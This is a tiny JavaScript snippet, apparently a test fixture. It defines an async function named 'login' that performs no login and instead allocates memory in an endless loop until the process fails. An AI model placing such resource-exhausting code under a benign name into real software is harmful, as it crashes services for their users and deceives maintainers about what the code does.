async function login() {
  const all = [];
  while (true) all.push(new Array(10000).fill({ a: Math.random() }));
}
